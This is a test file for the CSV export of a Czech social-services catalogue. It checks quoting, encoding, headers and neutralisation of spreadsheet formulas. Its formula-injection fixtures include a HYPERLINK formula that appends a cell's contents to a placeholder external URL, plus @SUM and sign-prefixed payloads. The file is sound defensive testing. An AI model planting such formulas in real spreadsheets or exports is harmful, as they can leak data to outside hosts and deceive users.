import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvCell, csvFileName, csvMimeType, servicesCsv } from '../../src/export/csv.js';
import { serviceFieldKeys, serviceFields } from '../../src/export/service-fields.js';
import { buildCatalogueModel } from '../../src/catalogue/model.js';
import { fixtureCatalogueWithDistricts } from '../fixtures/catalogue/catalogue.js';
import { parseCsv } from '../fixtures/print/parse-csv.js';
import { fixtureModel, fixtureService, formulaService, today, trickyService } from '../fixtures/print/services.js';

/** The column of a field, by its key: the tests read cells by what they hold, not by position. */
function column(key: (typeof serviceFieldKeys)[number]): number {
  return serviceFieldKeys.indexOf(key);
}

const cells: Array<[string, string, string]> = [
  ['plain text stays as it is', 'Pečovatelská služba', 'Pečovatelská služba'],
  ['a comma needs no quotes with ; as separator', 'Kelč, Zašová', 'Kelč, Zašová'],
  ['the separator is quoted', 'a;b', '"a;b"'],
  ['quotes are doubled and quoted', 'spolek "Úsměv"', '"spolek ""Úsměv"""'],
  ['a line feed is quoted', 'a\nb', '"a\nb"'],
  ['CRLF inside is quoted', 'a\r\nb', '"a\r\nb"'],
  ['Czech quotes need nothing', '„Řeřicha“', '„Řeřicha“'],
  ['an empty cell is empty', '', ''],
  ['= starts a formula: apostrophe', '=1+1', "'=1+1"],
  ['+ starts a formula: apostrophe', '+420 000 000 001', "'+420 000 000 001"],
  ['- starts a formula: apostrophe', '-2+3', "'-2+3"],
  ['@ starts a formula: apostrophe', '@SUM(A1)', "'@SUM(A1)"],
  ['a leading tab: apostrophe', '\tx', "'\tx"],
  ['a leading CR: apostrophe, then quoted', '\rx', '"\'\rx"'],
  ['guard and quoting together', '=HYPERLINK("x";"y")', '"\'=HYPERLINK(""x"";""y"")"'],
  ['a sign later in the text is harmless', 'a=b+c-d@e', 'a=b+c-d@e'],
  ['a leading space is not a formula', ' =1', ' =1'],
];
for (const [name, input, expected] of cells) {
  test(`csvCell: ${name}`, () => {
    assert.equal(csvCell(input), expected);
  });
}

test('the file starts with a UTF-8 byte-order mark and ends every line with CRLF', () => {
  const csv = servicesCsv(fixtureModel().services, 'cs');
  const bytes = Buffer.from(csv, 'utf8');
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  assert.ok(csv.endsWith('\r\n'));
  // The fixture has no line breaks inside values: every LF is part of a CRLF, one per record.
  assert.equal(csv.split('\n').length - 1, fixtureModel().services.length + 1);
  assert.equal(csv.split('\r\n').length - 1, fixtureModel().services.length + 1);
  assert.equal(csvMimeType, 'text/csv;charset=utf-8');
});

test('Czech header, one row per service in the given order, 18 columns separated by ;', () => {
  const services = fixtureModel().services;
  const rows = parseCsv(servicesCsv(services, 'cs').slice(1));
  assert.deepEqual(rows[0], [
    'Název služby',
    'Poskytovatel',
    'Druh služby',
    'Forma',
    'Popis',
    'Pro koho',
    'Registrovaná kapacita',
    'Pro obyvatele celých okresů',
    'Pro obyvatele obcí',
    'Území působnosti',
    'Adresa',
    'Provozní doba',
    'Telefon',
    'E-mail',
    'Web',
    'Registrovaná služba',
    'Identifikátor v registru',
    'Údaje ověřeny dne',
  ]);
  assert.deepEqual(rows.slice(1).map((row) => row[0]), services.map((service) => service.name));
  for (const row of rows) assert.equal(row.length, serviceFieldKeys.length);
});

test('a service row: capacity with its form and unit, contacts in their columns, ISO dates', () => {
  const service = fixtureService('testovaci-pecovatelska-sluzba');
  const [, row] = parseCsv(servicesCsv([service], 'cs').slice(1));
  assert.deepEqual(row, [
    'Testovací pečovatelská služba',
    'Testovací poskytovatel Alfa',
    'pečovatelská služba',
    'terénní',
    'Syntetický záznam: pomoc s hygienou, donáška obědů a nákupy v domácnosti klienta.',
    'osoby se zdravotním postižením, senioři',
    'terénní: 12 klientů',
    '',
    'Kelč, Lešná, Valašské Meziříčí',
    '',
    'Testovací 1, Krásno nad Bečvou, 757 01 Valašské Meziříčí',
    '',
    "'+420 000 000 001",
    'pecovatelska@example.cz',
    'https://www.example.cz/pecovatelska',
    'ano',
    '0000001',
    service.reviewed,
  ]);
  assert.match(service.reviewed ?? '', /^\d{4}-\d{2}-\d{2}$/);
});

test('English header and values', () => {
  const service = fixtureService('testovaci-poradna', 'en');
  const [header, row] = parseCsv(servicesCsv([service], 'en').slice(1));
  assert.equal(header?.[0], 'Service name');
  assert.equal(header?.[column('capacity')], 'Registered capacity');
  assert.equal(header?.[column('openingHours')], 'Opening hours');
  assert.equal(row?.[column('capacity')], 'outpatient: 2 clients, field: 5 interventions');
  assert.equal(row?.[column('registered')], 'yes');
});

test('round trip: Czech text, emoji, quotes, separators and line breaks come back unchanged', () => {
  const service = trickyService();
  const rows = parseCsv(servicesCsv([service], 'cs').slice(1));
  assert.equal(rows.length, 2);
  const expected = serviceFields(service, 'cs', { dates: 'iso' }).map((field) =>
    /^[=+\-@\t\r]/.test(field.value) ? `'${field.value}` : field.value,
  );
  assert.deepEqual(rows[1], expected);
  assert.equal(rows[1]?.[0], 'Testovací „Řeřicha“; služba 👵🏻 s ů, ď, ť, ň');
  assert.equal(rows[1]?.[1], 'Testovací spolek "Úsměv", z. s.');
  assert.equal(rows[1]?.[column('addresses')], 'Dům s\r\nCRLF, Testovací 1;\nKrásno nad Bečvou\nTestovací 2, 757 01 Valašské Meziříčí');
  assert.equal(rows[1]?.[column('web')], 'https://www.example.cz/a?b=1;c=2');
  // Through bytes and back, as a file on disk would go.
  assert.equal(Buffer.from(servicesCsv([service], 'cs'), 'utf8').toString('utf8'), servicesCsv([service], 'cs'));
});

test('formula injection: every cell that would run as a formula starts with an apostrophe', () => {
  const [, row] = parseCsv(servicesCsv([formulaService()], 'cs').slice(1));
  assert.equal(row?.[column('name')], '\'=HYPERLINK("https://example.org/?x="&A1;"Klikněte")');
  assert.equal(row?.[column('provider')], "'@SUM(1+1)");
  assert.equal(row?.[column('addresses')], "'-2+3");
  assert.equal(row?.[column('emails')], "'\tx@example.cz");
  assert.equal(row?.[column('web')], "'\rhttps://example.org");
  for (const cell of row ?? []) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
});

test('a service of a whole district: the district in its column, every municipality of it in the next', () => {
  const service = buildCatalogueModel(fixtureCatalogueWithDistricts(today), 'cs', today).services.find((s) => s.id === 'testovaci-osobni-asistence-zlin');
  assert.ok(service);
  const fields = Object.fromEntries(serviceFields(service, 'cs', { dates: 'iso' }).map((field) => [field.key, field.value]));
  assert.equal(fields['districts'], 'Zlín');
  assert.equal(fields['municipalities'], 'Kelč, Želechovice nad Dřevnicí');
});

test('a service that states no area: the column of municipalities served is empty, its place is in the address', () => {
  const fields = Object.fromEntries(serviceFields(fixtureService('testovaci-domov-pro-seniory'), 'cs', { dates: 'iso' }).map((field) => [field.key, field.value]));
  assert.equal(fields['municipalities'], '');
  assert.equal(fields['addresses'], 'Testovací budova, Testovací 2, 756 43 Kelč');
});

test('no services: just the header', () => {
  assert.equal(parseCsv(servicesCsv([], 'cs').slice(1)).length, 1);
});

const fileNames: Array<['cs' | 'en', Date, string]> = [
  ['cs', today, 'socialni-sluzby-2026-11-22.csv'],
  ['en', today, 'social-services-2026-11-22.csv'],
  ['cs', new Date(2027, 0, 1, 0, 5), 'socialni-sluzby-2027-01-01.csv'],
];
for (const [lang, day, expected] of fileNames) {
  test(`csvFileName(${lang}) = ${expected}`, () => {
    assert.equal(csvFileName(lang, day), expected);
  });
}

test('serviceFields: long dates for paper, empty values for what a service does not say', () => {
  const gama = fixtureModel().services.find((service) => service.provider.name === 'Testovací ústav Gama');
  assert.ok(gama);
  const fields = Object.fromEntries(serviceFields(gama, 'cs', { dates: 'long' }).map((field) => [field.key, field.value]));
  assert.equal(fields.reviewed, '');
  assert.equal(fields.emails, '');
  const alfa = fixtureService('testovaci-pecovatelska-sluzba');
  const reviewed = serviceFields(alfa, 'cs', { dates: 'long' }).find((field) => field.key === 'reviewed');
  assert.match(reviewed?.value ?? '', /^\d{1,2}\. [a-zěščřžýáíéůú]+ \d{4}$/);
  assert.equal(reviewed?.label, 'Údaje ověřeny dne');
});

test('the test parser rejects what Excel would misread', () => {
  assert.throws(() => parseCsv('a;b"c\r\n'));
  assert.throws(() => parseCsv('"a"b\r\n'));
  assert.throws(() => parseCsv('a\nb\r\n'));
  assert.throws(() => parseCsv('a;b'));
  assert.deepEqual(parseCsv('a;"b;""c"""\r\n;\r\n'), [['a', 'b;"c"'], ['', '']]);
});
